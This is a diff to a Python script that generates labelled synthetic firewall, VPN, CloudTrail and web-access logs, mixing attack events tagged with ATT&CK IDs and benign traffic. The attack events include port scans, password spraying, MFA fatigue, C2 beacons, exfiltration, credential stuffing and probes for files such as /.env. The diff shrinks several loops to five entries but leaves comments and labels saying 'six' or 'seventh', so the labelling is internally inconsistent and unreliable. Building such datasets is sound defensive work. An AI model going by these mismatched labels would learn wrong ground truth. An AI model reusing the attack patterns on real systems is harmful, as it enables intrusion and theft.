+B(S, ct(T(24, 10, 5, 0), "StartLogging", "cloudtrail.amazonaws.com", "86.131.44.144", iam_user("t.okonkwo", "AKIAEXAMPLEOKONK002"), {"name": f"arn:aws:cloudtrail:eu-central-1:{ACCT}:trail/org-trail"}),
   "trail restarted during incident recovery")
 B(S, ct(T(24, 10, 10, 0), "AssumeRole", "sts.amazonaws.com", "10.212.9.20", role("github-actions-deploy", "gha-tms-4411"), {"roleArn": f"arn:aws:iam::{ACCT}:role/tms-deployer", "roleSessionName": "gha-tms-4411", "durationSeconds": 3600}, ro=True,
   ua="aws-sdk-js/3.701.0 ua/2.1 os/linux#6.8.0 lang/js md/nodejs#20.18.1 api/sts#3.701.0"), "CI deployment role chaining")
@@ -1175,7 +1147,6 @@ B(S, ct(T(24, 12, 0, 0), "GetObject", "s3.amazonaws.com", "10.212.40.30", role("
   extra={"eventCategory": "Data", "vpcEndpointId": "vpce-0a1b2c3d4e5f60718"}, mgmt=False, ua="[aws-sdk-java/2.29.20 Linux/6.1.115-126.197.amzn2023.x86_64]"), "ETL instance role reading input through the VPC endpoint")
 B(S, ct(T(24, 13, 0, 0), "CreateUser", "iam.amazonaws.com", "10.212.9.4", role("terraform-iam-admin", "tf-run-88123"), {"userName": "svc-edi-partner-kuehne", "tags": [{"key": "ticket", "value": "CHG-21120"}]},
   region="us-east-1", ua="APN/1.0 HashiCorp/1.0 Terraform/1.9.8 (+https://www.terraform.io) terraform-provider-aws/5.80.0"), "IAM user created by Terraform under a change ticket")
-B(S, ct(T(24, 14, 0, 0), "DescribeSecurityGroups", "ec2.amazonaws.com", "81.2.69.144", iam_user("t.okonkwo", "AKIAEXAMPLEOKONK002"), {}, ro=True), "admin reading security groups")
 B(S, ct(T(24, 14, 10, 0), "AuthorizeSecurityGroupIngress", "ec2.amazonaws.com", "10.212.9.4", role("terraform-net-admin", "tf-run-88140"),
   {"groupId": "sg-0b1c2d3e4f5a69788", "ipPermissions": {"items": [{"ipProtocol": "tcp", "fromPort": 443, "toPort": 443, "ipRanges": {"items": [{"cidrIp": "10.212.0.0/16"}]}}]}},
   ua="APN/1.0 HashiCorp/1.0 Terraform/1.9.8 terraform-provider-aws/5.80.0"), "internal-only HTTPS rule from Terraform")
@@ -1349,9 +1320,9 @@ def srx(t, msg):
 
 
 # port scan burst from the Internet on the FortiGate, 6 lines
-for i, p in enumerate([21, 22, 23, 445, 1433, 3389]):
+for i, p in enumerate([22, 23, 445, 1433, 3389]):
     M(S, forti(T(23, 0, 5, 10, i * 150), logid="\"0000000013\"", type="\"traffic\"", subtype="\"forward\"", level="\"notice\"", vd="\"root\"", srcip="45.143.203.88", srcport=str(44100 + i),
-               srcintf="\"wan1\"", dstip="81.2.69.150", dstport=str(p), dstintf="\"dmz\"", proto="6", action="\"deny\"", policyid="0", policytype="\"policy\"", service=f"\"tcp/{p}\"", sentbyte="0", rcvdbyte="0", crscore="30", craction="131072"),
+               srcintf="\"wan1\"", dstip="86.131.44.150", dstport=str(p), dstintf="\"dmz\"", proto="6", action="\"deny\"", policyid="0", policytype="\"policy\"", service=f"\"tcp/{p}\"", sentbyte="0", rcvdbyte="0", crscore="30", craction="131072"),
       "T1046", "one external host hitting six service ports within a second - port scan")
 # internal horizontal SMB sweep on pfSense at a branch, 5 lines
 for i in range(5):
@@ -1367,13 +1338,13 @@ M(S, forti(T(23, 1, 52, 30), logid="\"0000000013\"", type="\"traffic\"", subtype
   "T1041", "two gigabytes sent from the payment gateway to the attacker host in one session - exfiltration")
 M(S, asa(T(23, 1, 40, 0), "4-106023", "Deny icmp src outside:10.212.40.21 dst outside:146.70.87.19 (type 8, code 0) by access-group \"DMZ_OUT\" [0x8e1a2f33, 0x0]"),
   "T1095", "ICMP echo to the attacker host from a server in the middle of the intrusion - ICMP tunnel attempt")
-M(S, asa(T(23, 1, 41, 0), "6-302020", "Built outbound ICMP connection for faddr 146.70.87.19/0 gaddr 81.2.69.151/22011 laddr 10.212.40.22/22011 type 8 code 0 payload 1452 bytes"),
+M(S, asa(T(23, 1, 41, 0), "6-302020", "Built outbound ICMP connection for faddr 146.70.87.19/0 gaddr 86.131.44.151/22011 laddr 10.212.40.22/22011 type 8 code 0 payload 1452 bytes"),
   "T1095", "large (1452-byte) ICMP echo payloads to the same VPS from a second server - ICMP tunnel")
 M(S, cp(T(23, 2, 0, 0), action="Drop", src="10.212.33.71", dst="91.240.118.52", proto="17", s_port="53102", service="53", product="Anti-Bot", protection_name="Cobalt Strike DNS beacon", malware_action="Communication with C&C site", severity="High", confidence_level="High"),
   "T1071.004", "Check Point Anti-Bot dropping a DNS beacon pattern")
 M(S, cef(T(23, 2, 10, 0), "Sophos", "XG Firewall", "20.0", "0000010301", "ATP", "9", "act=drop src=10.212.31.88 dst=146.70.87.19 dpt=8443 app=HTTPS suser=r.iyer cs1Label=threatname cs1=C2/Generic-A cs2Label=policy cs2=Internet_Out msg=Advanced Threat Protection detected C2 callback"),
   "T1071.001", "Sophos ATP flags the workstation's beacon to the VPS")
-M(S, srx(T(23, 2, 20, 0), "source-address=\"10.212.8.20\" source-port=\"50110\" destination-address=\"66.203.125.15\" destination-port=\"443\" connection-tag=\"0\" service-name=\"junos-https\" protocol-id=\"6\" policy-name=\"BLOCK-FILESHARE\" source-zone-name=\"servers\" destination-zone-name=\"untrust\" application=\"MEGA\" nested-application=\"UNKNOWN\" username=\"RVM\\k.haddad\""),
+M(S, srx(T(23, 2, 20, 0), "source-address=\"10.212.8.20\" source-port=\"50110\" destination-address=\"31.216.145.5\" destination-port=\"443\" connection-tag=\"0\" service-name=\"junos-https\" protocol-id=\"6\" policy-name=\"BLOCK-FILESHARE\" source-zone-name=\"servers\" destination-zone-name=\"untrust\" application=\"MEGA\" nested-application=\"UNKNOWN\" username=\"RVM\\k.haddad\""),
   "T1567.002", "file server trying to reach MEGA - blocked exfiltration to cloud storage")
 M(S, forti(T(23, 2, 30, 0), logid="\"1059028704\"", type="\"utm\"", subtype="\"app-ctrl\"", level="\"warning\"", srcip="10.212.31.88", dstip="3.125.209.94", dstport="443", action="\"block\"", app="\"Ngrok\"", appcat="\"Proxy\"", apprisk="\"high\"", msg="\"Proxy: Ngrok\"", hostname="\"tunnel.eu.ngrok.com\""),
   "T1572", "ngrok tunnel client blocked by application control")
@@ -1383,9 +1354,7 @@ M(S, asa(T(23, 2, 50, 0), "4-733100", "[ Scanning] drop rate-1 exceeded. Current
   "T1595.001", "threat detection: sustained scanning of the DMZ range")
 M(S, pan(T(23, 3, 0, 0), "THREAT", "spyware", "10.212.31.88", "8.8.8.8", 58812, 53, "dns-base", "sinkhole", "Users-outbound", "\"Suspicious DNS Query (generic:x3k9.duckdns.org)(109001001)\",any,medium,client-to-server"),
   "T1568", "DNS query for a dynamic-DNS C2 domain sinkholed")
-M(S, f"{b3164(T(23, 3, 10, 0))} tms-app-11 kernel: [2001234.55] IN=eth0 OUT= MAC=0a:1b:2c:3d:4e:5f:00:11:22:33:44:55:08:00 SRC=194.26.29.113 DST=10.212.40.50 LEN=60 TOS=0x00 PREC=0x00 TTL=49 ID=0 DF PROTO=TCP SPT=38112 DPT=6443 WINDOW=64240 RES=0x00 SYN URGP=0 ",
-  "T1133", "iptables logging Internet SYN to the Kubernetes API port on an app host")
-M(S, forti(T(23, 3, 20, 0), logid="\"0419016384\"", type="\"utm\"", subtype="\"ips\"", level="\"alert\"", srcip="91.240.118.52", dstip="81.2.69.150", dstport="3389", action="\"dropped\"", attack="\"MS.Windows.RDP.Brute.Force.Login\"", severity="\"high\"", ref="\"http://www.fortinet.com/ids/VID41227\""),
+M(S, forti(T(23, 3, 20, 0), logid="\"0419016384\"", type="\"utm\"", subtype="\"ips\"", level="\"alert\"", srcip="91.240.118.52", dstip="86.131.44.150", dstport="3389", action="\"dropped\"", attack="\"MS.Windows.RDP.Brute.Force.Login\"", severity="\"high\"", ref="\"http://www.fortinet.com/ids/VID41227\""),
   "T1110.001", "IPS signature for RDP brute force from the same host that guessed passwords")
 M(S, f"{b3164(T(23, 3, 30, 0))} rvm-nft-01 kernel: nft-drop-out: IN= OUT=ens192 SRC=10.212.8.20 DST=162.159.137.232 LEN=1500 TOS=0x00 PREC=0x00 TTL=64 ID=4421 DF PROTO=TCP SPT=49221 DPT=443 WINDOW=502 RES=0x00 ACK PSH URGP=0 ",
   "T1567", "file server pushing full-size packets to a Discord CDN address blocked by the egress nftables policy")
@@ -1396,10 +1365,10 @@ for i, p in enumerate([22, 80, 443, 5432, 8443]):
     B(S, pf(T(24, 10, 5, 1, i * 100), 88, "pass", "in", "10.212.250.12", "10.214.5.10", 61000 + i, p),
       "approved Qualys scanner appliance sweeping a branch server during the weekly scan window (pass rule 'Approved-Qualys')")
 B(S, pan(T(24, 10, 20, 0), "TRAFFIC", "end", "10.212.8.20", "10.212.8.15", 52001, 2500, "veeam", "allow", "Backup-internal", "88122014,1022,1840"), "Veeam backup traffic")
-B(S, asa(T(24, 10, 30, 0), "6-302013", "Built inbound TCP connection 991812 for outside:81.2.69.160/40331 (81.2.69.160/40331) to dmz:10.212.60.5/22 (81.2.69.151/22)"), "partner EDI SFTP connection")
-B(S, asa(T(24, 10, 31, 0), "6-302014", "Teardown TCP connection 991812 for outside:81.2.69.160/40331 to dmz:10.212.60.5/22 duration 0:01:51 bytes 48933 TCP FINs"), "EDI session teardown")
+B(S, asa(T(24, 10, 30, 0), "6-302013", "Built inbound TCP connection 991812 for outside:86.131.44.160/40331 (86.131.44.160/40331) to dmz:10.212.60.5/22 (86.131.44.151/22)"), "partner EDI SFTP connection")
+B(S, asa(T(24, 10, 31, 0), "6-302014", "Teardown TCP connection 991812 for outside:86.131.44.160/40331 to dmz:10.212.60.5/22 duration 0:01:51 bytes 48933 TCP FINs"), "EDI session teardown")
 B(S, cp(T(24, 11, 0, 0), action="Accept", src="10.212.31.40", dst="52.97.146.162", proto="6", s_port="53390", service="443", product="Application Control", appi_name="Microsoft Teams", app_category="Instant Chat"), "Teams")
-B(S, cef(T(24, 11, 10, 0), "Sophos", "XG Firewall", "20.0", "0000010201", "Web Filter", "2", "act=allow src=10.212.33.90 dst=140.82.121.4 dpt=443 app=GitHub suser=l.brennan cs2Label=policy cs2=Internet_Out request=https://github.com/hashicorp/terraform/releases"),
+B(S, cef(T(24, 11, 10, 0), "Sophos", "XG Firewall", "20.0", "0000010201", "Web Filter", "2", "act=allow src=10.212.33.90 dst=140.82.121.3 dpt=443 app=GitHub suser=l.brennan cs2Label=policy cs2=Internet_Out request=https://github.com/hashicorp/terraform/releases"),
   "developer on GitHub")
 B(S, srx(T(24, 11, 20, 0), "source-address=\"10.212.33.14\" source-port=\"50999\" destination-address=\"10.212.8.40\" destination-port=\"3389\" connection-tag=\"0\" service-name=\"junos-rdp\" protocol-id=\"6\" policy-name=\"DENY-USER-RDP\" source-zone-name=\"users\" destination-zone-name=\"servers\" application=\"UNKNOWN\" username=\"RVM\\k.sorensen\"").replace("RT_FLOW_SESSION_DENY", "RT_FLOW_SESSION_DENY"),
   "one user trying RDP to a server directly instead of via the jump host - single policy deny")
@@ -1411,14 +1380,13 @@ B(S, forti(T(24, 11, 40, 0), logid="\"0000000013\"", type="\"traffic\"", subtype
 B(S, cp(T(24, 12, 0, 0), action="Accept", src="10.212.9.4", dst="10.212.40.50", proto="6", s_port="50113", service="22", product="VPN-1 & FireWall-1", rule_name="Ansible-mgmt"), "Ansible SSH management")
 B(S, pan(T(24, 12, 10, 0), "THREAT", "vulnerability", "10.212.250.11", "10.212.40.30", 41221, 443, "web-browsing", "alert", "Approved-VulnScan", "\"SQL Injection Attempt(38195)\",any,high,client-to-server"),
   "SQL injection probe from the approved Tenable scanner under the scan policy")
-B(S, asa(T(24, 12, 20, 0), "6-305011", "Built dynamic TCP translation from inside:10.212.31.40/51422 to outside:81.2.69.144/51422"), "NAT build")
 B(S, f"{b3164(T(24, 12, 30, 0))} rvm-nft-01 kernel: nft-drop-in: IN=ens192 OUT= SRC=10.212.31.52 DST=10.212.8.22 LEN=40 TOS=0x00 PREC=0x00 TTL=128 ID=0 DF PROTO=UDP SPT=137 DPT=137 LEN=58 ",
   "NetBIOS broadcast noise dropped")
 B(S, cef(T(24, 12, 40, 0), "Sophos", "XG Firewall", "20.0", "0000010201", "Web Filter", "4", "act=block src=10.212.33.71 dst=104.21.2.33 dpt=443 app=HTTPS suser=f.osei cs2Label=policy cs2=Internet_Out cat=Gambling request=https://www.betsite-example.com/"),
   "category block on gambling - HR policy, not an attack")
 B(S, forti(T(24, 13, 0, 0), logid="\"0100032001\"", type="\"event\"", subtype="\"system\"", level="\"information\"", logdesc="\"Admin login successful\"", user="\"adm-netops\"", ui="\"https(10.212.31.77)\"", method="\"https\"", srcip="10.212.31.77", action="\"login\"", status="\"success\""),
   "network admin logging in to the FortiGate GUI from the management VLAN")
-B(S, srx(T(24, 13, 10, 0), "source-address=\"10.212.0.10\" source-port=\"123\" destination-address=\"162.159.200.1\" destination-port=\"123\" connection-tag=\"0\" service-name=\"junos-ntp\" protocol-id=\"17\" policy-name=\"ALLOW-NTP\" source-zone-name=\"servers\" destination-zone-name=\"untrust\" application=\"NTP\" nested-application=\"UNKNOWN\" username=\"N/A\"").replace("SESSION_DENY", "SESSION_CLOSE"),
+B(S, srx(T(24, 13, 10, 0), "source-address=\"10.212.0.10\" source-port=\"123\" destination-address=\"162.159.200.123\" destination-port=\"123\" connection-tag=\"0\" service-name=\"junos-ntp\" protocol-id=\"17\" policy-name=\"ALLOW-NTP\" source-zone-name=\"servers\" destination-zone-name=\"untrust\" application=\"NTP\" nested-application=\"UNKNOWN\" username=\"N/A\"").replace("SESSION_DENY", "SESSION_CLOSE"),
   "NTP to a public pool")
 B(S, pan(T(24, 13, 20, 0), "TRAFFIC", "end", "10.212.31.40", "20.190.160.21", 51009, 443, "ms-office365-base", "allow", "Users-outbound", "40112,18001,12"), "Office 365 sign-in traffic")
 # ---------------------------------------------------------------- vpn
@@ -1453,8 +1421,8 @@ def zs(t, **kv):
 
 
 # GlobalProtect spray: many users, one address, 6 lines
-for i, u in enumerate(["a.novak", "c.brandt", "d.mensah", "g.ferrante", "h.yilmaz", "p.ruiz"]):
-    M(S, gp(T(23, 23, 10, 3 + i * 2), "gateway-auth", u, "194.26.29.200", "failure", "Authentication failed: Invalid username or password", extra="Windows,,,US"),
+for i, u in enumerate(["a.novak", "c.brandt", "d.mensah", "g.ferrante", "h.yilmaz"]):
+    M(S, gp(T(23, 23, 10, 3 + i * 2), "gateway-auth", u, "194.180.49.200", "failure", "Authentication failed: Invalid username or password", extra="Windows,,,US"),
       "T1110.003", "one address failing GlobalProtect logins for many users seconds apart - password spraying")
 # FortiGate SSL-VPN brute force on one account, 5 lines
 for i in range(5):
@@ -1474,62 +1442,59 @@ M(S, pulse(T(23, 22, 40, 3), "ADM20599", "System integrity check: new file detec
   "T1505.003", "integrity checker finds a modified login page script - credential-harvesting web shell on the appliance")
 M(S, ovpn(T(23, 21, 0, 0), "185.220.101.47:51022 TLS: Username/Password authentication succeeded for username 'svc-monitoring'"),
   "T1078.003", "service account with no VPN need authenticating from a Tor exit")
-M(S, ovpn(T(23, 21, 0, 1), "svc-monitoring/185.220.101.47:51022 MULTI_sva: pool returned IPv4=10.212.202.9, IPv6=(Not enabled)"), "T1078.003", "tunnel address handed to that session")
 M(S, ovpn(T(23, 21, 5, 0), "svc-monitoring/185.220.101.47:51022 MULTI: Learn: 10.212.8.0/24 -> svc-monitoring/185.220.101.47:51022"),
   "T1599", "client announcing an internal server subnet behind itself (iroute) - traffic bridged through the VPN client")
 # Duo push fatigue via auth proxy, 6 lines
-for i in range(6):
+for i in range(5):
     t = T(23, 20, 15, 2 + i * 9)
     M(S, f"{t.strftime('%Y-%m-%dT%H:%M:%S.%f')[:-3]}+0000 [duoauthproxy.lib.log#info] Duo authentication returned 'deny': 'User declined or timed out' (user=f.osei, factor=push, client_ip=77.91.124.60, server_section=radius_server_auto)",
       "T1621", "push requests repeated every few seconds until the user gives in - MFA fatigue")
 M(S, f"{T(23, 20, 16, 3).strftime('%Y-%m-%dT%H:%M:%S.%f')[:-3]}+0000 [duoauthproxy.lib.log#info] Duo authentication returned 'allow': 'Success. Logging you in...' (user=f.osei, factor=push, client_ip=77.91.124.60, server_section=radius_server_auto)",
   "T1621", "seventh push accepted from the fatigue attacker's address")
-M(S, zs(T(23, 19, 0, 0), Username="l.moreau@ravenmoor.eu", SessionStatus="ZPN_STATUS_AUTHENTICATED", ClientPublicIP="103.251.167.20", ClientCountryCode="VN", Platform="linux",
+M(S, zs(T(23, 19, 0, 0), Username="l.virtanen@ravenmoor.eu", SessionStatus="ZPN_STATUS_AUTHENTICATED", ClientPublicIP="103.251.167.20", ClientCountryCode="VN", Platform="linux",
   Version="3.9.0.127", Hostname="DESKTOP-9XQ1", Application="rvm-sql-07.rvm.internal", ServerPort=1433, Policy="All-Staff-Apps", ConnectionStatus="open"),
   "T1133", "ZPA session from an unmanaged Linux host in an unusual country straight to a database server")
 M(S, J({"ts": iso(T(23, 18, 0, 0)), "svc": "wg-portal", "level": "info", "event": "peer_created", "actor": "api-token:ops-bot", "peer": {"name": "k.haddad-ipad", "public_key": "q0bHc8kVu8Hgm8SDh1D0YFCkt2e3yQk6n0b2VyZk5XE=", "allowed_ips": ["10.212.0.0/16"]}, "src_ip": "179.43.151.12"}),
   "T1098", "WireGuard peer with the whole internal /16 added through the portal API from the attacker VPS")
 M(S, fsv(T(23, 17, 0, 0), level="\"warning\"", logdesc="\"SSL VPN login fail\"", action="\"ssl-login-fail\"", tunneltype="\"ssl-web\"", remip="45.143.203.88", user="\"admin\"", group="\"N/A\"", reason="\"sslvpn_login_unknown_user\"", msg="\"SSL user failed to logged in\"").replace("0101039426", "0101039426") + " custommsg=\"path=/remote/hostcheck_validate?enc=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\"",
   "T1190", "oversized enc parameter to the SSL-VPN hostcheck endpoint - heap-overflow exploit attempt against FortiOS")
-M(S, anyc(T(23, 16, 0, 0), "4-722041", "TunnelGroup <RVM-Legacy> GroupPolicy <DfltGrpPolicy> User <l.moreau> IP <103.251.167.20> No IPv6 address available for SVC connection"),
+M(S, anyc(T(23, 16, 0, 0), "4-722041", "TunnelGroup <RVM-Legacy> GroupPolicy <DfltGrpPolicy> User <l.virtanen> IP <103.251.167.20> No IPv6 address available for SVC connection"),
   "T1133", "login through a legacy tunnel group without MFA by a user already seen from the same foreign address")
 # benign
-B(S, gp(T(24, 8, 2, 0), "gateway-connected", "w.lindqvist", "81.2.69.201", "success", "GlobalProtect gateway client configuration generated", stage="configuration", extra="Windows,RVM-LAP-1187,6.2.4,GB"),
+B(S, gp(T(24, 8, 2, 0), "gateway-connected", "w.lindqvist", "86.131.44.201", "success", "GlobalProtect gateway client configuration generated", stage="configuration", extra="Windows,RVM-LAP-1187,6.2.4,GB"),
   "ordinary home-office connection")
 B(S, gp(T(24, 8, 3, 0), "gateway-auth", "n.achebe", "92.40.176.88", "failure", "Authentication failed: Invalid username or password", extra="Windows,RVM-LAP-1401,6.2.4,GB"),
   "new hire's single failed first VPN login")
 B(S, gp(T(24, 8, 3, 40), "gateway-auth", "n.achebe", "92.40.176.88", "success", "Authentication successful", extra="Windows,RVM-LAP-1401,6.2.4,GB"), "and her success")
-B(S, fsv(T(24, 8, 10, 0), level="\"information\"", logdesc="\"SSL VPN tunnel up\"", action="\"tunnel-up\"", tunneltype="\"ssl-tunnel\"", remip="81.2.69.77", tunnelip="10.212.200.21", user="\"e.achterberg\"", group="\"SSLVPN-Users\"", msg="\"SSL tunnel established\""),
+B(S, fsv(T(24, 8, 10, 0), level="\"information\"", logdesc="\"SSL VPN tunnel up\"", action="\"tunnel-up\"", tunneltype="\"ssl-tunnel\"", remip="86.131.44.77", tunnelip="10.212.200.21", user="\"e.achterberg\"", group="\"SSLVPN-Users\"", msg="\"SSL tunnel established\""),
   "staff SSL-VPN tunnel")
-B(S, fsv(T(24, 17, 10, 0), level="\"information\"", logdesc="\"SSL VPN tunnel down\"", action="\"tunnel-down\"", tunneltype="\"ssl-tunnel\"", remip="81.2.69.77", tunnelip="10.212.200.21", user="\"e.achterberg\"", group="\"SSLVPN-Users\"", sentbyte="88120311", rcvdbyte="912330011", duration="32400", msg="\"SSL tunnel shutdown\""),
+B(S, fsv(T(24, 17, 10, 0), level="\"information\"", logdesc="\"SSL VPN tunnel down\"", action="\"tunnel-down\"", tunneltype="\"ssl-tunnel\"", remip="86.131.44.77", tunnelip="10.212.200.21", user="\"e.achterberg\"", group="\"SSLVPN-Users\"", sentbyte="88120311", rcvdbyte="912330011", duration="32400", msg="\"SSL tunnel shutdown\""),
   "tunnel closed at the end of the day")
 B(S, anyc(T(24, 8, 20, 0), "6-113004", "AAA user authentication Successful : server =  10.212.0.20 : user = m.aziz"), "admin VPN login")
 B(S, anyc(T(24, 8, 20, 1), "6-722022", "Group <RVM-Staff> User <m.aziz> IP <92.40.180.12> TCP SVC connection established without compression"), "from a UK mobile network")
 B(S, anyc(T(24, 12, 0, 0), "4-113019", "Group = RVM-Staff, Username = m.aziz, IP = 92.40.180.12, Session disconnected. Session Type: SSL, Duration: 3h:39m:59s, Bytes xmt: 41022311, Bytes rcv: 8812001, Reason: User Requested"), "user disconnect")
-B(S, ovpn(T(24, 9, 0, 0), "81.2.69.33:40110 [l.brennan] Peer Connection Initiated with [AF_INET]81.2.69.33:40110"), "developer OpenVPN session")
-B(S, ovpn(T(24, 9, 0, 1), "l.brennan/81.2.69.33:40110 MULTI_sva: pool returned IPv4=10.212.202.40, IPv6=(Not enabled)"), "pool address")
-B(S, ovpn(T(24, 9, 30, 0), "TLS: soft reset sec=3600/3600 bytes=201122/-1 pkts=1022/0"), "hourly TLS renegotiation")
+B(S, ovpn(T(24, 9, 0, 0), "86.131.44.33:40110 [l.brennan] Peer Connection Initiated with [AF_INET]86.131.44.33:40110"), "developer OpenVPN session")
+B(S, ovpn(T(24, 9, 0, 1), "l.brennan/86.131.44.33:40110 MULTI_sva: pool returned IPv4=10.212.202.40, IPv6=(Not enabled)"), "pool address")
 B(S, ovpn(T(24, 10, 0, 0), "10.212.250.12:51122 TLS Error: TLS handshake failed"), "approved Qualys scanner probing the OpenVPN port during the scan window")
-B(S, pulse(T(24, 9, 0, 0), "AUT24414", "Agent login succeeded for s.quinlan/RVM-Users from 81.2.69.90 with Pulse-Secure/22.7.3.3143 (Windows 11) Pulse Secure.", user="s.quinlan", ip="81.2.69.90"), "ICS login")
-B(S, pulse(T(24, 9, 0, 2), "NWC23464", "VPN Tunneling: User with IP 10.212.203.12 connected with ESP transport mode.", user="s.quinlan", ip="81.2.69.90"), "tunnel up")
+B(S, pulse(T(24, 9, 0, 0), "AUT24414", "Agent login succeeded for s.quinlan/RVM-Users from 86.131.44.90 with Pulse-Secure/22.7.3.3143 (Windows 11) Pulse Secure.", user="s.quinlan", ip="86.131.44.90"), "ICS login")
+B(S, pulse(T(24, 9, 0, 2), "NWC23464", "VPN Tunneling: User with IP 10.212.203.12 connected with ESP transport mode.", user="s.quinlan", ip="86.131.44.90"), "tunnel up")
 B(S, pulse(T(24, 11, 0, 0), "ADM20716", "Administrator 'adm-netops' applied configuration change 'Realm RVM-Users: MFA required' (ticket CHG-21140).", user="adm-netops", realm="Admin Users", ip="10.212.31.77"),
   "VPN admin tightening MFA under a change ticket")
-B(S, f"{T(24, 8, 50, 0).strftime('%Y-%m-%dT%H:%M:%S.%f')[:-3]}+0000 [duoauthproxy.lib.log#info] Duo authentication returned 'allow': 'Success. Logging you in...' (user=r.iyer, factor=push, client_ip=81.2.69.120, server_section=radius_server_auto)",
+B(S, f"{T(24, 8, 50, 0).strftime('%Y-%m-%dT%H:%M:%S.%f')[:-3]}+0000 [duoauthproxy.lib.log#info] Duo authentication returned 'allow': 'Success. Logging you in...' (user=r.iyer, factor=push, client_ip=86.131.44.120, server_section=radius_server_auto)",
   "normal single push approval")
-B(S, f"{T(24, 9, 50, 0).strftime('%Y-%m-%dT%H:%M:%S.%f')[:-3]}+0000 [duoauthproxy.lib.log#info] Duo authentication returned 'deny': 'User declined or timed out' (user=k.sorensen, factor=push, client_ip=81.2.69.51, server_section=radius_server_auto)",
+B(S, f"{T(24, 9, 50, 0).strftime('%Y-%m-%dT%H:%M:%S.%f')[:-3]}+0000 [duoauthproxy.lib.log#info] Duo authentication returned 'deny': 'User declined or timed out' (user=k.sorensen, factor=push, client_ip=86.131.44.51, server_section=radius_server_auto)",
   "one push that timed out while the user fetched her phone")
-B(S, zs(T(24, 9, 10, 0), Username="t.okonkwo@ravenmoor.eu", SessionStatus="ZPN_STATUS_AUTHENTICATED", ClientPublicIP="81.2.69.144", ClientCountryCode="GB", Platform="windows",
+B(S, zs(T(24, 9, 10, 0), Username="t.okonkwo@ravenmoor.eu", SessionStatus="ZPN_STATUS_AUTHENTICATED", ClientPublicIP="86.131.44.144", ClientCountryCode="GB", Platform="windows",
   Version="4.5.0.286", Hostname="RVM-LAP-1102", Application="rvm-vbr-01.rvm.internal", ServerPort=443, Policy="Infra-Admins", ConnectionStatus="open"), "admin on a managed laptop to the backup console")
-B(S, zs(T(24, 9, 20, 0), Username="f.osei@ravenmoor.eu", SessionStatus="ZPN_STATUS_AUTHENTICATED", ClientPublicIP="81.2.69.125", ClientCountryCode="GB", Platform="windows",
+B(S, zs(T(24, 9, 20, 0), Username="f.osei@ravenmoor.eu", SessionStatus="ZPN_STATUS_AUTHENTICATED", ClientPublicIP="86.131.44.125", ClientCountryCode="GB", Platform="windows",
   Version="4.5.0.286", Hostname="RVM-LAP-0611", Application="rvm-fs-01.rvm.internal", ServerPort=445, Policy="Finance-Apps", ConnectionStatus="close", DoubleEncryption="Off", TotalBytesRx=1022311), "finance user's file share session")
-B(S, J({"ts": iso(T(24, 10, 0, 0)), "svc": "wg-portal", "level": "info", "event": "peer_key_rotated", "actor": "user:l.brennan", "peer": {"name": "l.brennan-laptop", "allowed_ips": ["10.212.210.40/32"]}, "src_ip": "81.2.69.33", "ticket": None}),
+B(S, J({"ts": iso(T(24, 10, 0, 0)), "svc": "wg-portal", "level": "info", "event": "peer_key_rotated", "actor": "user:l.brennan", "peer": {"name": "l.brennan-laptop", "allowed_ips": ["10.212.210.40/32"]}, "src_ip": "86.131.44.33", "ticket": None}),
   "user rotating the key of her own WireGuard peer through the portal")
-B(S, J({"ts": iso(T(24, 10, 5, 0)), "svc": "wg-portal", "level": "info", "event": "handshake", "peer": "l.brennan-laptop", "endpoint": "81.2.69.33:51820", "latest_handshake_s": 4}),
+B(S, J({"ts": iso(T(24, 10, 5, 0)), "svc": "wg-portal", "level": "info", "event": "handshake", "peer": "l.brennan-laptop", "endpoint": "86.131.44.33:51820", "latest_handshake_s": 4}),
   "handshake of that peer")
 B(S, fsv(T(24, 13, 0, 0), level="\"information\"", logdesc="\"SSL VPN new connection\"", action="\"ssl-new-con\"", tunneltype="\"ssl\"", remip="10.212.250.11", user="\"N/A\"", group="\"N/A\"", msg="\"SSL new connection\""),
   "TLS connection from the approved Tenable scanner checking the SSL-VPN portal")
-B(S, gp(T(24, 13, 30, 0), "portal-prelogin", "", "81.2.69.201", "success", "Portal pre-login: client-cert-auth not required", stage="before-login", extra="Windows,RVM-LAP-1187,6.2.4,GB"), "portal pre-login")
-B(S, anyc(T(24, 14, 0, 0), "5-722037", "Group <RVM-Staff> User <k.sorensen> IP <81.2.69.51> SVC closing connection: Transport closing."), "client closed the tunnel")
+B(S, anyc(T(24, 14, 0, 0), "5-722037", "Group <RVM-Staff> User <k.sorensen> IP <86.131.44.51> SVC closing connection: Transport closing."), "client closed the tunnel")
 # ---------------------------------------------------------------- web-access
 S = "web-access"
 
@@ -1557,12 +1522,12 @@ def wjson(t, ip, method, path, status, ua, size=512, rt=0.02, host="api.ravenmoo
 
 CH = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
 # login API credential stuffing: many users, rotating IPs in one /24, 6 lines, JSON
-for i, u in enumerate(["m.keller@dhl-partner.de", "sales@nordfrost.se", "ops@coolcargo.pl", "j.silva@transfrio.pt", "a.kaya@soguk.com.tr", "it@kuehlhaus.at"]):
-    M(S, wjson(T(23, 21, 0, 2 + i, 100 + i * 40), f"194.26.29.{130 + i}", "POST", "/portal/api/v2/auth/login", 401, "python-httpx/0.27.2", size=61, rt=0.043, login=u),
+for i, u in enumerate(["m.keller@dhl-partner.de", "sales@nordfrost.se", "ops@coolcargo.pl", "j.silva@transfrio.pt", "a.kaya@soguk.com.tr"]):
+    M(S, wjson(T(23, 21, 0, 2 + i, 100 + i * 40), f"194.180.49.{130 + i}", "POST", "/portal/api/v2/auth/login", 401, "python-httpx/0.27.2", size=61, rt=0.043, login=u),
       "T1110.004", "customer-portal logins for many leaked partner e-mails from rotating addresses within seconds - credential stuffing")
 # directory brute force with a wordlist, 6 lines, nginx with timings
-for i, p in enumerate(["/.git/config", "/.env", "/backup.zip", "/wp-config.php.bak", "/server-status", "/actuator/env"]):
-    M(S, ngx(T(23, 20, 30, 10, i * 120), "45.143.203.88", f"GET {p} HTTP/1.1", 404 if i != 5 else 200, 153 if i != 5 else 4120, ua="Mozilla/5.0 (compatible; ffuf/2.1.0)", rt=f"0.00{i + 1}", host="tms.ravenmoor.eu"),
+for i, p in enumerate(["/.git/config", "/.env", "/backup.zip", "/wp-config.php.bak", "/actuator/env"]):
